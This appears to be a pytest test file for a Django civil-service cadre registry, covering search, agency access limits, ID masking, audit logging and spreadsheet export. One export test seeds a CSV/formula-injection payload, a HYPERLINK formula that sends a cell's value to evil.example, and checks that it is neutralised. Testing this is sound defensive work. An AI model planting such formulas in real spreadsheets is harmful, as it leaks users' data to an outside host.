import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from apps.cadres.models import Cadre
from apps.cadres.tests.factories import CadreFactory, LanguageSkillFactory, _level
from apps.core.models import AuditEntry


@pytest.fixture
def registry(ministry, ministry_unit, other_agency, own_cadre):
    return {
        "an": CadreFactory(agency=ministry, full_name="Nguyễn Văn An", national_id="001080000111"),
        "dat": CadreFactory(agency=ministry_unit, full_name="Đỗ Đức Đạt"),
        "own": own_cadre,
        "other": CadreFactory(agency=other_agency, full_name="Nguyễn Văn Anh"),
    }


def names(response):
    return {row.record.full_name for row in response.context["table"].page.object_list}


def test_search_ignores_accents_and_case(client_for, steering_admin, registry):
    response = client_for(steering_admin).get(reverse("cadres:cadre_list"), {"q": "nguyen van an"})
    assert names(response) == {"Nguyễn Văn An", "Nguyễn Văn Anh"}


def test_search_treats_d_with_stroke_as_d(client_for, steering_admin, registry):
    response = client_for(steering_admin).get(reverse("cadres:cadre_list"), {"q": "DO DUC DAT"})
    assert names(response) == {"Đỗ Đức Đạt"}


def test_agency_filter_includes_units_below(client_for, steering_admin, registry, ministry):
    response = client_for(steering_admin).get(reverse("cadres:cadre_list"), {"agency": ministry.pk})
    assert names(response) == {"Nguyễn Văn An", "Đỗ Đức Đạt", "Lê Thị Học Viên"}


def test_agency_officer_cannot_see_other_agency_cadres(client_for, agency_officer, registry):
    response = client_for(agency_officer).get(reverse("cadres:cadre_list"), {"q": "nguyen"})
    assert names(response) == {"Nguyễn Văn An"}
    detail = client_for(agency_officer).get(
        reverse("cadres:cadre_detail", args=[registry["other"].pk])
    )
    assert detail.status_code == 404


def test_agency_officer_cannot_filter_by_other_agency(
    client_for, agency_officer, registry, other_agency
):
    response = client_for(agency_officer).get(
        reverse("cadres:cadre_list"), {"agency": other_agency.pk}
    )
    assert names(response) == set()
    assert "agency" in response.context["filter"].form.errors


def test_filters_combine(client_for, steering_admin, registry):
    LanguageSkillFactory(cadre=registry["an"], language="en", level="C1")
    LanguageSkillFactory(cadre=registry["dat"], language="en", level="A2")
    LanguageSkillFactory(cadre=registry["other"], language="fr", level="C1")
    response = client_for(steering_admin).get(
        reverse("cadres:cadre_list"), {"language": "en", "language_level": "B2"}
    )
    assert names(response) == {"Nguyễn Văn An"}
    response = client_for(steering_admin).get(
        reverse("cadres:cadre_list"), {"language_level": "C1"}
    )
    assert names(response) == {"Nguyễn Văn An", "Nguyễn Văn Anh"}
    response = client_for(steering_admin).get(reverse("cadres:cadre_list"), {"scope": "local"})
    assert names(response) == {"Nguyễn Văn Anh"}


def test_age_band_filter(client_for, steering_admin, ministry):
    today = timezone.localdate()
    CadreFactory(
        agency=ministry, full_name="Trẻ", date_of_birth=today.replace(year=today.year - 35)
    )
    CadreFactory(
        agency=ministry, full_name="Trung", date_of_birth=today.replace(year=today.year - 45)
    )
    CadreFactory(
        agency=ministry, full_name="Lớn", date_of_birth=today.replace(year=today.year - 55)
    )
    client = client_for(steering_admin)
    url = reverse("cadres:cadre_list")
    assert names(client.get(url, {"age_band": "le40"})) == {"Trẻ"}
    assert names(client.get(url, {"age_band": "41_50"})) == {"Trung"}
    assert names(client.get(url, {"age_band": "gt50"})) == {"Lớn"}


def test_list_uses_constant_queries_whatever_the_page_size(
    client_for, agency_officer, ministry, django_assert_max_num_queries
):
    level = _level()
    for index in range(60):
        CadreFactory(agency=ministry, position_level=level, full_name=f"Cán bộ {index}")
    client = client_for(agency_officer)
    url = reverse("cadres:cadre_list")
    client.get(url)  # fills the cache of agency options
    with django_assert_max_num_queries(12) as small:
        client.get(url, {"per_page": 10})
    with django_assert_max_num_queries(12) as large:
        client.get(url, {"per_page": 100})
    assert len(small.captured_queries) == len(large.captured_queries)


def test_list_masks_identifiers(client_for, steering_admin, registry):
    response = client_for(steering_admin).get(reverse("cadres:cadre_list"), {"q": "an"})
    content = response.content.decode()
    assert "001080000111" not in content
    assert "•••••••••111" in content


def test_export_contains_the_filtered_rows_masked(client_for, agency_officer, registry):
    response = client_for(agency_officer).get(reverse("cadres:cadre_export"), {"q": "nguyen"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [row[1] for row in rows] == ["Nguyễn Văn An"]
    assert rows[0][15] == "•••••••••111"
    entry = AuditEntry.objects.get(action="cadres.export")
    assert entry.detail["rows"] == 1
    assert entry.detail["full_identifiers"] is False


def test_export_writes_hostile_text_as_text_and_dates_as_dates(
    client_for, steering_admin, ministry
):
    hostile = '=HYPERLINK("http://evil.example/?d="&P2,"Xem")'
    cadre = CadreFactory(agency=ministry, full_name=hostile, hometown="@SUM(1)")
    response = client_for(steering_admin).get(reverse("cadres:cadre_export"))
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    row = next(sheet.iter_rows(min_row=2))
    assert (row[1].value, row[1].data_type, row[1].quotePrefix) == (hostile, "s", True)
    assert (row[5].value, row[5].data_type) == ("@SUM(1)", "s")
    assert "f" not in {cell.data_type for line in sheet.iter_rows() for cell in line}
    assert row[3].value.date() == cadre.date_of_birth
    assert row[3].number_format == "dd/mm/yyyy"


def test_export_with_full_identifiers_is_logged(client_for, agency_officer, registry):
    response = client_for(agency_officer).get(
        reverse("cadres:cadre_export"), {"q": "nguyen", "identifiers": "full"}
    )
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.cell(row=2, column=16).value == "001080000111"
    assert AuditEntry.objects.get(action="cadres.export").detail["full_identifiers"] is True


def test_auditor_cannot_export_full_identifiers(client_for, auditor, registry):
    response = client_for(auditor).get(reverse("cadres:cadre_export"), {"identifiers": "full"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    ids = [row[15] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert ids
    assert all(value.startswith("•") for value in ids)


def test_reveal_shows_and_logs_identifiers(client_for, agency_officer, registry):
    cadre = registry["an"]
    response = client_for(agency_officer).post(reverse("cadres:cadre_reveal", args=[cadre.pk]))
    assert "001080000111" in response.content.decode()
    assert (
        AuditEntry.objects.filter(
            action="cadres.reveal_identifiers", object_id=str(cadre.pk)
        ).count()
        == 1
    )


@pytest.mark.parametrize("persona", ["finance_officer", "auditor"])
def test_readers_cannot_reveal_identifiers(client_for, personas, persona, registry):
    response = client_for(personas[persona]).post(
        reverse("cadres:cadre_reveal", args=[registry["an"].pk])
    )
    assert response.status_code == 403
    assert not AuditEntry.objects.filter(action="cadres.reveal_identifiers").exists()


def test_participant_sees_only_own_record(client_for, participant, registry):
    client = client_for(participant)
    assert client.get(reverse("cadres:my_record")).url == reverse(
        "cadres:cadre_detail", args=[registry["own"].pk]
    )
    assert client.get(reverse("cadres:cadre_detail", args=[registry["own"].pk])).status_code == 200
    assert client.get(reverse("cadres:cadre_detail", args=[registry["an"].pk])).status_code == 404
    assert client.get(reverse("cadres:cadre_list")).status_code == 403


def _edit_payload(cadre, **changes):
    data = {
        "full_name": cadre.full_name,
        "gender": cadre.gender,
        "date_of_birth": cadre.date_of_birth.strftime("%d/%m/%Y"),
        "ethnicity": cadre.ethnicity,
        "national_id": cadre.national_id,
        "agency": cadre.agency_id,
        "position_title": cadre.position_title,
        "position_level": cadre.position_level_id,
        "management_category": cadre.management_category,
        "work_field": cadre.work_field_id,
        "version": cadre.version,
    }
    data.update(changes)
    return data


def test_edit_saves_and_records_who_changed_what(client_for, agency_officer, registry):
    cadre = registry["an"]
    client = client_for(agency_officer)
    response = client.post(
        reverse("cadres:cadre_edit", args=[cadre.pk]),
        _edit_payload(cadre, position_title="Vụ trưởng"),
    )
    assert response.status_code == 302
    cadre.refresh_from_db()
    assert cadre.position_title == "Vụ trưởng"
    detail = client.get(reverse("cadres:cadre_detail", args=[cadre.pk]))
    history = detail.context["history"]
    assert history[0].user == agency_officer
    assert any(f.old == "Phó Vụ trưởng" and f.new == "Vụ trưởng" for f in history[0].changes)


def test_second_editor_gets_a_conflict_message(
    client_for, steering_admin, agency_officer, registry
):
    cadre = registry["an"]
    stale = _edit_payload(cadre, position_title="Cục trưởng")
    client_for(steering_admin).post(
        reverse("cadres:cadre_edit", args=[cadre.pk]),
        _edit_payload(cadre, position_title="Vụ trưởng"),
    )
    response = client_for(agency_officer).post(reverse("cadres:cadre_edit", args=[cadre.pk]), stale)
    assert response.status_code == 200
    assert response.context["stale"] is True
    cadre.refresh_from_db()
    assert cadre.position_title == "Vụ trưởng"


def test_edit_with_bad_input_shows_errors_and_changes_nothing(client_for, steering_admin, registry):
    cadre = registry["an"]
    response = client_for(steering_admin).post(
        reverse("cadres:cadre_edit", args=[cadre.pk]),
        _edit_payload(cadre, national_id="12AB", date_of_birth="31/02/1980"),
    )
    assert response.status_code == 200
    assert set(response.context["form"].errors) >= {"national_id", "date_of_birth"}
    assert Cadre.objects.get(pk=cadre.pk).national_id == "001080000111"


def test_officer_cannot_move_a_cadre_to_another_agency(
    client_for, agency_officer, registry, other_agency
):
    cadre = registry["an"]
    response = client_for(agency_officer).post(
        reverse("cadres:cadre_edit", args=[cadre.pk]), _edit_payload(cadre, agency=other_agency.pk)
    )
    assert "agency" in response.context["form"].errors
    assert Cadre.objects.get(pk=cadre.pk).agency_id == cadre.agency_id


@pytest.mark.parametrize("persona", ["finance_officer", "auditor"])
def test_readers_cannot_edit(client_for, personas, persona, registry):
    cadre = registry["an"]
    response = client_for(personas[persona]).post(
        reverse("cadres:cadre_edit", args=[cadre.pk]), _edit_payload(cadre, position_title="X")
    )
    assert response.status_code == 403


def test_create_cadre(client_for, agency_officer, ministry_unit):
    cadre = CadreFactory.build(agency=ministry_unit, position_level=_level())
    data = _edit_payload(cadre, national_id="001085001234", full_name="Phạm Thị Mới")
    data.pop("version")
    response = client_for(agency_officer).post(reverse("cadres:cadre_create"), data)
    assert response.status_code == 302
    assert Cadre.objects.get(national_id="001085001234").search_key == "pham thi moi"


def test_add_and_remove_position_and_language(client_for, agency_officer, registry):
    cadre = registry["an"]
    client = client_for(agency_officer)
    client.post(
        reverse("cadres:position_add", args=[cadre.pk]),
        {"start": "01/01/2020", "position_title": "Phó Vụ trưởng"},
    )
    client.post(reverse("cadres:language_add", args=[cadre.pk]), {"language": "en", "level": "B2"})
    assert cadre.positions.count() == 1
    assert cadre.languages.count() == 1
    client.post(reverse("cadres:position_delete", args=[cadre.pk, cadre.positions.get().pk]))
    client.post(reverse("cadres:language_delete", args=[cadre.pk, cadre.languages.get().pk]))
    assert cadre.positions.count() == 0
    assert cadre.languages.count() == 0


def test_large_export_runs_in_the_background_for_its_requester_only(
    client_for, agency_officer, other_officer, registry, settings
):
    settings.EXPORT_INLINE_MAX_ROWS = 1
    client = client_for(agency_officer)
    response = client.get(reverse("cadres:cadre_export"))
    assert response.status_code == 302
    job_url = response.url
    status = client.get(job_url)
    assert status.context["job"].status == "succeeded"
    assert status.context["job"].total_rows == 3
    download = client.get(reverse("core:export_download", args=[status.context["job"].pk]))
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    assert sheet.max_row == 4
    assert client_for(other_officer).get(job_url).status_code == 404


def test_agency_filter_options_follow_renames_and_keep_the_selection(
    client_for, steering_admin, ministry, ministry_unit
):
    from apps.agencies.services import agency_update

    client = client_for(steering_admin)
    url = reverse("cadres:cadre_list")
    assert "Vụ Tổ chức cán bộ" in client.get(url).content.decode()
    agency_update(actor=steering_admin, agency=ministry_unit, name="Vụ Hợp tác quốc tế")
    html = client.get(url, {"agency": ministry_unit.pk}).content.decode()
    assert "Vụ Tổ chức cán bộ" not in html
    assert f'<option value="{ministry_unit.pk}" selected>' in html


def test_agency_column_and_export_name_the_unit_with_its_ministry(
    client_for, agency_officer, registry, ministry, ministry_unit
):
    client = client_for(agency_officer)
    page = client.get(reverse("cadres:cadre_list"), {"q": "dat"}).content.decode()
    assert f"{ministry_unit.name} <span" in page
    assert f"— {ministry.name}</span>" in page
    response = client.get(reverse("cadres:cadre_export"), {"q": "dat"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.cell(row=1, column=7).value == "Agency"
    assert sheet.cell(row=2, column=7).value == f"{ministry_unit.name} — {ministry.name}"


def test_agency_filter_is_a_searchable_picker(client_for, agency_officer, registry):
    page = client_for(agency_officer).get(reverse("cadres:cadre_list")).content.decode()
    select = page.split('name="agency"', 1)[0].rsplit("<select", 1)[1]
    assert "data-picker" in select
